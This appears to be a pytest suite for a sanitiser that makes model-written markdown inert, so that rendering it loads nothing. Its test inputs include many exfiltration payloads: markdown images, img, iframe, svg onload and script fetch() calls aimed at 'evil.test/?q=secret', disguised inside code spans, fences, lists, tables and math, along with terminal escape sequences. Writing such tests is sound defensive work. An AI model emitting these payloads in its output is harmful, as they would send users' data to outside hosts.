"""Nothing that a model writes may load anything when it is rendered."""

from __future__ import annotations

import re

import mistune
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tether_jupyter.core import inert

EVIL = "http://evil.test/?q=secret"
ACTIVE = re.compile(r"<(?:img|script|iframe|video|svg|link|style|object|b)\b", re.IGNORECASE)


def render(text: str) -> str:
    return str(mistune.create_markdown(escape=False, plugins=["table", "url", "math"])(text))


@pytest.mark.parametrize(
    "text",
    [
        "A plain answer with `code` and *emphasis*.",
        "```python\nprint('hello')\n```\nand more",
        "1. one\n   ```sh\n   ls\n   ```\n2. two",
        "It holds that $a < b$ and $$x <= y$$.",
        "| a | b |\n| --- | --- |\n| 1 | 2 |",
        "See [the docs](https://example.org) & [1].",
    ],
)
def test_an_answer_without_danger_stays_as_it_is(text: str) -> None:
    assert inert.markdown(text) == text


@pytest.mark.parametrize(
    "text",
    [
        f"![x]({EVIL})",
        f"![x][r]\n\n[r]: {EVIL}",
        f"![r]\n\n[r]: {EVIL}",
        f"<img src={EVIL}>",
        f"<IMG\nsrc={EVIL}>",
        f"<svg/onload=fetch('{EVIL}')>",
        f"<script>fetch('{EVIL}')</script>",
        f"<!-- x --><iframe src={EVIL}>",
        f"[![x]({EVIL})]({EVIL})",
        # Code that a renderer does not take for code.
        f"\\`<img src={EVIL}>`",
        f"` one\ntwo ` <img src={EVIL}> `",
        f"` one\n\u00a0\n` <img src={EVIL}> `",
        f"| ` | <img src={EVIL}> ` |\n| --- | --- |\n| ` | <img src={EVIL}> ` |",
        f'[x](/y "`") <img src={EVIL}> `z`',
        f"https://e.test/`x <img src={EVIL}> `",
        f"$`$ <img src={EVIL}> `",
        f"- ```\n  x\n  ```\n<img src={EVIL}>\n  ```",
        f"- ```\n<img src={EVIL}>\n```",
        f"1. x\n\n   ```\n<img src={EVIL}>\n   ```",
        f"> ```\n<img src={EVIL}>\n```",
        f"text\n    ```\n    <img src={EVIL}>\n\n    ```",
        f"```x`y\n<img src={EVIL}>\n```",
        f"$$\n\n   ```\n   $$\n   <img src={EVIL}>\n   ```",
        f"~~~\n```\n~~~\n<img src={EVIL}>\n```",
        f"1. x\n   ```\n\u00a0\n\n   - ```\n   - ![x]({EVIL})\n   ```",
        f"``` | a |\n| --- | --- |\n``<img src={EVIL}>\n```",
        f"\t```\nx\n   ```\n<img src={EVIL}>",
    ],
)
def test_nothing_loads_whatever_the_disguise(text: str) -> None:
    shown = render(inert.markdown(text))
    outside = re.sub(r"<code.*?</code>", "", shown, flags=re.DOTALL)
    assert not ACTIVE.search(outside), shown


def test_code_keeps_every_byte() -> None:
    code = "html = '<b>![x](y)</b>'\nif a<b: pass"
    assert f"```python\n{code}\n```" in inert.markdown(f"Try <b>:\n```python\n{code}\n```\nDone")
    assert "`<div>`" in inert.markdown("Use `<div>` and not <span>.")
    assert "`List<int>`" in inert.markdown("A `List<int>` holds <T>.")


def test_code_in_a_list_keeps_its_bytes() -> None:
    text = "1. Do\n\n   ```html\n   <b>x</b>\n   ```\n\n2. <i>"
    assert "   ```html\n   <b>x</b>\n   ```" in inert.markdown(text)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("so $a<b$ holds", "so $a< b$ holds"),
        ("$$\na<b\n$$", "$$\na< b\n$$"),
        ("$x<y>z$", "$x< y>z$"),
        (r"$\style{background:url(http://evil.test)}{x}$", r"$\ style{background:url(http://evil.test)}{x}$"),
    ],
)
def test_formulas_stay_readable(text: str, expected: str) -> None:
    assert inert.markdown(text) == expected


def test_tags_show_as_they_were_typed() -> None:
    assert render(inert.markdown("a <b>tag</b>")).strip() == "<p>a &lt;b&gt;tag&lt;/b&gt;</p>"


def test_an_open_block_is_closed_only_at_the_end() -> None:
    assert inert.markdown("```py\nx <b>").endswith("\n```")
    assert inert.markdown("```py\nx").endswith("x\n```")
    assert inert.markdown("~~~~\nx", complete=False) == "~~~~\nx"


def test_a_terminal_obeys_nothing() -> None:
    assert inert.plain("a\x1b]52;c;eA==\x07b\x9b31mc\r\nd\te\x00") == "a]52;c;eA==b31mc\nd\te"


BITS = st.sampled_from(
    [
        *("`", "``", "```", "~~~", "````", "\n", "\n\n", "    ", "   ", "  ", " ", "\t", "\u00a0"),
        *("- ", "1. ", "> ", "# ", "---\n", "|", "| a | b |\n| --- | --- |\n", "*", "_", "a", "b c"),
        *("$", "$$", "\\", "\\[", "\\]", "\\begin{x}", "\\end{x}", "[", "](", ")", "[r]: ", '"', "'"),
        *("http://x.test/", f"<img src={EVIL}>", f"![x]({EVIL})", "<b", ">"),
    ]
)


@given(st.lists(BITS, max_size=30).map("".join))
@settings(max_examples=400, deadline=None)
def test_no_arrangement_of_marks_makes_a_tag_or_an_image(text: str) -> None:
    shown = render(inert.markdown(text))
    outside = re.sub(r"<code.*?</code>", "", shown, flags=re.DOTALL)
    assert not ACTIVE.search(outside), (text, inert.markdown(text), shown)
